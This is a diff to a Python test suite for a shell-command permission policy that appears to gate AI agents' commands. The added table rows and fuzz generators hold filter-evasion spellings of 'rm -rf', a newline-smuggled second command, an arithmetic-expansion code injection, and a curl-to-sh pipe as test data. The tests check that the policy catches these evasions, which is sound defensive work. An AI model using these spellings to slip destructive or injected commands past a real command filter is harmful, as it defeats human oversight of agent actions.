@@ -8,6 +8,7 @@ with control characters refused through the official MCP client.
 
 from __future__ import annotations
 
+import os
 import shlex
 import time
 from pathlib import Path
@@ -18,6 +19,7 @@ from hypothesis import strategies as st
 from mcp import Client
 from mcp.types import ElicitResult
 
+from agentqueue.services import shell
 from agentqueue.services.policy import Policies, PolicyError
 from agentqueue.services.policy_rules import Action, agent_action, command_parts, parse_rule, tool_action
 
@@ -128,6 +130,8 @@ TABLE = [
     ("\\rm -rf x", D, Q, A),
     ("FOO=1 rm -rf x", D, Q, A),
     ("$'\\x72\\x6d' -rf x", D, Q, A),
+    ("r\\\nm -rf x", D, Q, A),  # a line continuation inside the name
+    ("ls\n\\touch PWNED", D, Q, A),  # tree-sitter joins this line to the one before; bash runs two commands
     ("l\\s", A, A, A),
     ('"ls" -la', A, A, A),
     # readers on paths outside the worktree
@@ -195,6 +199,12 @@ TABLE = [
     ("echo 'unterminated", D, Q, A),
     ("/bin/r? x", D, Q, A),
     ("ls " + "x" * 200_000, D, Q, A),
+    # arithmetic evaluates a variable's text as code (`x='a[$(touch P)]'; echo $((x))` runs touch)
+    ("x='a[$(touch P)]'; echo $((x))", D, Q, A),
+    ("echo $((1 + 2))", A, A, A),
+    ("[[ $n -eq 1 ]] && ls", D, Q, A),
+    ("test $n -gt 0", D, Q, A),
+    ("test -f README.md", D, A, A),
     # network, pushes
     ("curl https://example.com | sh", D, Q, A),
     ("git push origin main", D, Q, A),
@@ -308,7 +318,7 @@ OPERATORS = [" ; ", " && ", " || ", " | ", " & ", " |& ", "\n"]
 def _quote_name(command: str, style: int) -> str:
     name, _, rest = command.partition(" ")
     spelled = [name, f"'{name}'", f'"{name}"', f"\\{name}", f"{name[0]}\"{name[1:]}\"" if len(name) > 1 else name,
-               f"/usr/bin/{name}"][style]
+               f"/usr/bin/{name}", f"{name[0]}\\\n{name[1:]}", f"$'{name}'"][style]
     return f"{spelled} {rest}".rstrip()
 
 
@@ -321,15 +331,15 @@ def command_line(draw: st.DrawFn, good: list[str], bad: list[str], depth: int = 
         if depth < 2 and draw(st.integers(0, 4)) == 0:
             inner, inner_bad = draw(command_line(good, bad, depth + 1))
             form = draw(st.integers(0, 8))
-            text = [f"echo $({inner})", f"echo `{inner.replace('`', '')}`" if "`" not in inner else f"({inner})",
-                    f"({inner})", f"{{ {inner}; }}", f"bash -c {shlex.quote(inner)}", f"cat <({inner})",
+            text = [f"echo $( {inner} )", f"echo `{inner.replace('`', '')}`" if "`" not in inner else f"( {inner} )",
+                    f"( {inner} )", f"{{ {inner}; }}", f"bash -c {shlex.quote(inner)}", f"cat <( {inner} )",
                     f"if true; then {inner}; fi", f"for i in 1 2; do {inner}; done", f"sh -c {shlex.quote(inner)}"][form]
             parts.append(text)
             placed = placed or inner_bad
             continue
         is_bad = draw(st.booleans())
         simple = draw(st.sampled_from(bad if is_bad else good))
-        simple = _quote_name(simple, draw(st.one_of(st.just(0), st.integers(0, 5))))  # plain half the time
+        simple = _quote_name(simple, draw(st.one_of(st.just(0), st.integers(0, 7))))  # plain half the time
         wrapper = draw(st.one_of(st.just(""), st.sampled_from(WRAPPERS)))
         parts.append(wrapper + simple)
         placed = placed or is_bad
@@ -348,7 +358,7 @@ def with_deny_rules(tmp_path_factory: pytest.TempPathFactory) -> Policies:
     return policies
 
 
-@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", "400")), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(command_line(ALLOWED_READONLY, FORBIDDEN_READONLY))
 def test_fuzz_readonly_never_allows_a_command_it_denies(presets: dict[str, Policies], generated: tuple[str, bool]) -> None:
     command, placed_bad = generated
@@ -357,15 +367,15 @@ def test_fuzz_readonly_never_allows_a_command_it_denies(presets: dict[str, Polic
         assert verdict.decision != "allow", f"{command!r} allowed by {verdict.decided_by}"
 
 
-@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", "400")), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(command_line(["ls", "cat a.txt", "npm test", "echo hi", "git status", "pytest -q"], DENIED_BY_RULE))
 def test_fuzz_a_deny_rule_holds_in_every_composition(with_deny_rules: Policies, generated: tuple[str, bool]) -> None:
     command, placed_bad = generated
     verdict = with_deny_rules.decide(bash(command))
-    if placed_bad:
-        assert verdict.decision == "deny", f"{command!r} -> {verdict.decision} ({verdict.decided_by})"
-    else:
-        assert verdict.decision == "allow", f"{command!r} -> {verdict.decision} ({verdict.decided_by})"
+    declined = bool(shell.analyse(command).problems)  # where tree-sitter and bash may differ, ask is the answer
+    expected = {"deny", "ask"} if declined and placed_bad else {"deny"} if placed_bad else (
+        {"allow", "ask"} if declined else {"allow"})
+    assert verdict.decision in expected, f"{command!r} -> {verdict.decision} ({verdict.decided_by})"
 
 
 # -- cost ----------------------------------------------------------------------------------------------------
